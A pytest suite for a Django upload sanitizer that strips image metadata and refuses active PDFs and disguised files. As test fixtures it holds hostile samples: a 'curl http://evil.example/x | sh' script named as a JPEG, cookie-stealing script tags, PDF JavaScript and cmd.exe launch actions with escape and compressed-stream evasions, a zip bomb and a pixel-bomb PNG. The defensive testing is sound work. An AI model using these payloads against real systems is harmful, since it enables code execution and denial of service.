"""Uploads are judged by their bytes: images come back re-encoded with nothing but their
pixels, PDFs come back unchanged unless they can run code, everything else is refused."""

from __future__ import annotations

import io
import os
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from PIL import ExifTags, Image, ImageCms, PngImagePlugin, TiffImagePlugin

from civicgrid.platform.files.uploads import (
    MAX_IMAGE_SIDE,
    THUMBNAIL_SIDE,
    clean_upload,
    display_name,
)

# 27.1829 seconds of latitude as an EXIF rational: numerator and denominator that cannot be reduced.
SECRET_SECONDS = (271829, 10000)


def image_bytes(image: Image.Image, image_format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def noisy(size: tuple[int, int]) -> Image.Image:
    """Random pixels: they compress badly, so the file is big enough to cut in half."""
    return Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))


def refused(data: bytes, *, name: str = "upload.jpg", **options) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        clean_upload(io.BytesIO(data), name=name, **options)
    return caught.value


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF with the given objects (numbered from 1), a cross-reference table and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def stream(dictionary: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(body), body)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
CONTENT = stream(b"", b"BT /F1 12 Tf 72 720 Td (Case 42) Tj ET")


# --- images ---------------------------------------------------------------------------------


def test_a_jpeg_loses_exif_and_gps_and_is_turned_upright():
    # Stored 400 × 200, red left, blue right; orientation 6 means "turn 90° clockwise to view".
    photo = Image.new("RGB", (400, 200), "red")
    photo.paste((0, 0, 255), (200, 0, 400, 200))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SecretCam"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (
        TiffImagePlugin.IFDRational(30, 1), TiffImagePlugin.IFDRational(15, 1),
        TiffImagePlugin.IFDRational(*SECRET_SECONDS),
    )
    data = image_bytes(photo, "JPEG", exif=exif.tobytes())
    secrets = [struct.pack(order + "II", *SECRET_SECONDS) for order in "<>"]  # EXIF may be either byte order
    assert b"Exif" in data and b"SecretCam" in data and any(secret in data for secret in secrets)  # what must go

    clean = clean_upload(io.BytesIO(data), name="IMG_0001.JPG")

    assert (clean.content_type, clean.extension, clean.kind) == ("image/jpeg", ".jpg", "image")
    assert b"Exif" not in clean.data and b"SecretCam" not in clean.data
    assert not any(secret in clean.data for secret in secrets)
    stored = Image.open(io.BytesIO(clean.data))
    assert len(stored.getexif()) == 0
    assert not {"exif", "icc_profile", "xmp", "XML:com.adobe.xmp"} & set(stored.info)
    assert stored.size == (clean.width, clean.height) == (200, 400)
    red, green, blue = stored.getpixel((100, 50))  # the red half is now on top
    assert red > 200 and blue < 50
    red, green, blue = stored.getpixel((100, 350))
    assert blue > 200 and red < 50
    assert Image.open(io.BytesIO(clean.thumbnail)).size == (160, 320)


def test_a_png_with_alpha_stays_png_with_its_transparency():
    sticker = Image.new("RGBA", (64, 48), (10, 200, 30, 0))
    sticker.paste((10, 200, 30, 255), (0, 0, 32, 48))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "home address here")
    data = image_bytes(sticker, "PNG", pnginfo=info)

    clean = clean_upload(io.BytesIO(data), name="sticker.png")

    assert (clean.content_type, clean.extension, clean.width, clean.height) == ("image/png", ".png", 64, 48)
    stored = Image.open(io.BytesIO(clean.data))
    assert stored.format == "PNG" and stored.mode == "RGBA"
    assert stored.getpixel((5, 5))[3] == 255 and stored.getpixel((60, 5))[3] == 0
    assert b"home address" not in clean.data and "Comment" not in stored.info
    thumb = Image.open(io.BytesIO(clean.thumbnail))
    assert thumb.format == "JPEG" and thumb.mode == "RGB"


def test_a_colour_profile_is_applied_then_dropped():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = image_bytes(Image.new("RGB", (40, 40), (200, 100, 50)), "PNG", icc_profile=profile)
    assert b"iCCP" in data

    clean = clean_upload(io.BytesIO(data), name="drawing.png")

    assert b"iCCP" not in clean.data
    assert Image.open(io.BytesIO(clean.data)).getpixel((0, 0)) == (200, 100, 50)


def test_a_cmyk_jpeg_is_stored_as_rgb():
    clean = clean_upload(io.BytesIO(image_bytes(Image.new("CMYK", (40, 40), (0, 255, 255, 0)), "JPEG")),
                         name="scan.jpg")
    stored = Image.open(io.BytesIO(clean.data))
    assert stored.mode == "RGB"
    red, green, blue = stored.getpixel((20, 20))
    assert red > 200 and green < 50 and blue < 50


def test_a_webp_stays_webp():
    clean = clean_upload(io.BytesIO(image_bytes(Image.new("RGB", (30, 20), "white"), "WEBP")), name="x.jpg")
    assert (clean.content_type, clean.extension) == ("image/webp", ".webp")
    assert Image.open(io.BytesIO(clean.data)).format == "WEBP"


def test_a_large_photo_is_scaled_down_and_gets_a_small_thumbnail():
    data = image_bytes(Image.linear_gradient("L").resize((6000, 3000)).convert("RGB"), "JPEG", quality=70)

    clean = clean_upload(io.BytesIO(data), name="wide.jpg")

    assert (clean.width, clean.height) == (MAX_IMAGE_SIDE, MAX_IMAGE_SIDE // 2)
    assert Image.open(io.BytesIO(clean.data)).size == (MAX_IMAGE_SIDE, MAX_IMAGE_SIDE // 2)
    thumb = Image.open(io.BytesIO(clean.thumbnail))
    assert thumb.format == "JPEG" and max(thumb.size) == THUMBNAIL_SIDE


def test_a_small_photo_is_not_enlarged():
    clean = clean_upload(io.BytesIO(image_bytes(Image.new("RGB", (100, 80), "white"), "JPEG")), name="s.jpg")
    assert (clean.width, clean.height) == (100, 80)
    assert Image.open(io.BytesIO(clean.thumbnail)).size == (100, 80)


def test_anything_appended_to_a_jpeg_is_dropped():
    data = image_bytes(Image.new("RGB", (50, 50), "white"), "JPEG") + b"<script>alert(1)</script>PK\x03\x04"
    clean = clean_upload(io.BytesIO(data), name="polyglot.jpg")
    assert b"<script>" not in clean.data and b"PK\x03\x04" not in clean.data


def test_a_truncated_jpeg_is_refused():
    data = image_bytes(noisy((300, 300)), "JPEG")
    assert refused(data[: len(data) // 2]).code == "corrupt_image"


def test_a_png_with_a_broken_checksum_is_refused():
    data = bytearray(image_bytes(noisy((50, 50)), "PNG"))
    data[-30] ^= 0xFF  # inside the last IDAT chunk
    assert refused(bytes(data), name="x.png").code == "corrupt_image"


def png_declaring(width: int, height: int) -> bytes:
    """A valid 1 × 1 PNG whose header claims another size, with the header's CRC made right."""
    data = bytearray(image_bytes(Image.new("RGB", (1, 1), "white"), "PNG"))
    assert data[12:16] == b"IHDR"
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


@pytest.mark.parametrize("size", [(50_000, 50_000), (8_000, 6_000)])
def test_a_png_declaring_too_many_pixels_is_refused_before_decoding(size):
    # Decoding would find only one pixel of data and fail as "corrupt"; "too large" proves it never started.
    data = png_declaring(*size)
    assert Image.open(io.BytesIO(png_declaring(2, 2))).size == (2, 2)  # the crafted header is readable
    error = refused(data, name="bomb.png")
    assert error.code == "image_too_large"


def test_a_gif_is_refused():
    assert refused(image_bytes(Image.new("P", (10, 10)), "GIF"), name="cat.gif").code == "unsupported_type"


# --- things that are not what their name says ----------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "photo.jpg"),
        (b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>", "photo.png"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "map.svg"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100, "report.pdf"),
        (b"\xff\xd8", "tiny.jpg"),
    ],
    ids=["script-as-jpg", "html-as-png", "svg", "exe-as-pdf", "two-bytes"],
)
def test_content_that_is_not_an_accepted_type_is_refused_whatever_its_name(data, name):
    assert refused(data, name=name).code == "unsupported_type"


def zip_bomb() -> bytes:
    """100 MB of zeros deflated, written in 1 MB pieces so the test never holds the 100 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            zeros = bytes(1024 * 1024)
            for _ in range(100):
                member.write(zeros)
    return out.getvalue()


def test_a_zip_bomb_renamed_jpg_is_refused_without_expanding_it():
    data = zip_bomb()
    assert len(data) < 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.getinfo("zeros.bin").file_size == 100 * 1024 * 1024

    tracemalloc.start()
    try:
        error = refused(data, name="holiday.jpg")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert error.code == "unsupported_type"
    assert peak < 10 * 1024 * 1024


# --- size --------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    assert refused(b"").code == "empty"


def test_a_file_one_byte_over_the_limit_is_refused_and_one_at_the_limit_accepted():
    data = image_bytes(Image.new("RGB", (64, 64), "white"), "JPEG")
    assert refused(data, max_bytes=len(data) - 1).code == "too_large"
    assert clean_upload(io.BytesIO(data), name="ok.jpg", max_bytes=len(data)).kind == "image"


class EndlessStream(io.RawIOBase):
    """A stream that never ends, counting what was read from it."""

    def __init__(self):
        self.read_bytes = 0

    def readable(self):
        return True

    def readinto(self, buffer):
        size = min(len(buffer), 4096)  # short reads, like a socket
        buffer[:size] = b"\xff" * size
        self.read_bytes += size
        return size


def test_a_huge_stream_is_read_only_up_to_the_limit():
    source = EndlessStream()
    with pytest.raises(ValidationError) as caught:
        clean_upload(source, name="endless.jpg", max_bytes=100_000)
    assert caught.value.code == "too_large"
    assert source.read_bytes == 100_001


def test_a_stream_already_read_is_read_again_from_its_start():
    stream = io.BytesIO(image_bytes(Image.new("RGB", (8, 8), "white"), "JPEG"))
    stream.read()
    assert clean_upload(stream, name="again.jpg").width == 8


# --- PDF ---------------------------------------------------------------------------------


def test_a_plain_pdf_is_accepted_unchanged():
    data = pdf(CATALOG, PAGES, PAGE, CONTENT)
    clean = clean_upload(io.BytesIO(data), name="../../etc/passwd/notice.pdf")
    assert clean == clean.__class__(data=data, content_type="application/pdf", extension=".pdf", kind="document",
                                    width=None, height=None, thumbnail=None, original_name="notice.pdf")


def test_a_pdf_whose_picture_bytes_look_like_an_action_is_accepted():
    picture = stream(b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /BitsPerComponent 8 "
                     b"/ColorSpace /DeviceGray", b"\x00/JS /Launch\xff\x10")
    data = pdf(CATALOG, PAGES, PAGE, CONTENT, picture)
    assert clean_upload(io.BytesIO(data), name="scan.pdf").data == data


@pytest.mark.parametrize(
    "action",
    [
        b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names with #xx escapes
        b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
        b"<< /Type /EmbeddedFile /Length 0 >>",
    ],
    ids=["javascript", "escaped-javascript", "launch", "embedded-file"],
)
def test_a_pdf_that_can_run_code_is_refused(action):
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
    data = pdf(catalog, PAGES, PAGE, CONTENT, action)
    assert refused(data, name="form.pdf").code == "pdf_active_content"


def test_an_action_disguised_as_a_stream_body_is_refused():
    # A string holding ">>stream" makes the dictionary look like a stream to a quick scan.
    disguised = b"<< /A (>>stream\n) /S /J#61vaScript %note\n /JS (app.alert(1)) /B (endstream) >>"
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", PAGES, PAGE, CONTENT, disguised)
    assert refused(data, name="form.pdf").code == "pdf_active_content"


def test_a_name_ending_in_stream_does_not_hide_what_follows():
    data = pdf(CATALOG, PAGES, PAGE, CONTENT, b"<< /Upstream\n /S /Launch /F (cmd.exe) >>")
    assert refused(data, name="form.pdf").code == "pdf_active_content"


def object_stream(objects: bytes, *, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    header = b"5 0 "
    return stream(b"/Type /ObjStm /N 1 /First %d %s" % (len(header), filters), zlib.compress(header + objects))


def test_javascript_hidden_in_a_compressed_object_stream_is_refused():
    hidden = object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in hidden
    data = pdf(CATALOG, PAGES, PAGE, CONTENT, hidden)
    assert refused(data, name="form.pdf").code == "pdf_active_content"


def test_a_compressed_object_stream_without_actions_is_accepted():
    data = pdf(CATALOG, PAGES, PAGE, CONTENT, object_stream(b"<< /Type /Font /Subtype /Type1 >>"))
    assert clean_upload(io.BytesIO(data), name="ok.pdf").kind == "document"


def test_an_object_stream_we_cannot_read_is_refused():
    unreadable = object_stream(b"<< /S /JavaScript >>", filters=b"/Filter [/ASCIIHexDecode /FlateDecode]")
    data = pdf(CATALOG, PAGES, PAGE, CONTENT, unreadable)
    assert refused(data, name="odd.pdf").code == "pdf_unreadable"


def test_an_encrypted_pdf_is_refused():
    data = pdf(CATALOG, PAGES, PAGE, CONTENT, b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>",
               trailer=b"/Root 1 0 R /Encrypt 5 0 R")
    assert refused(data, name="locked.pdf").code == "pdf_encrypted"


# --- names and language ------------------------------------------------------------------


def test_the_original_name_is_cleaned_for_display():
    assert display_name("C:\\Users\\li\\Desktop\\现场照片.JPG", ".jpg") == "现场照片.JPG"
    assert display_name("invoice\u202egpj.exe", ".jpg") == "invoicegpj.exe"
    assert display_name("../../..", ".png") == "upload.png"
    assert display_name("", ".pdf") == "upload.pdf"
    long_name = display_name("很" * 300 + ".jpeg", ".jpg")
    assert len(long_name) == 200 and long_name.endswith(".jpeg")


@pytest.mark.parametrize(
    ("data", "name", "options"),
    [
        (b"", "a.jpg", {}),
        (b"x" * 20, "a.jpg", {"max_bytes": 10}),
        (b"#!/bin/sh\n", "a.jpg", {}),
        (png_declaring(50_000, 50_000), "a.png", {}),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 40, "a.jpg", {}),
        (pdf(CATALOG, b"<< /S /JavaScript /JS (1) >>"), "a.pdf", {}),
        (pdf(CATALOG, trailer=b"/Root 1 0 R /Encrypt 2 0 R"), "a.pdf", {}),
        (pdf(CATALOG, object_stream(b"", filters=b"/Filter /LZWDecode")), "a.pdf", {}),
    ],
)
def test_refusals_carry_a_message_in_the_users_language(data, name, options):
    with translation.override("zh-hans"):
        error = refused(data, name=name, **options)
    assert error.code
    assert all(isinstance(message, str) and message for message in error.messages)
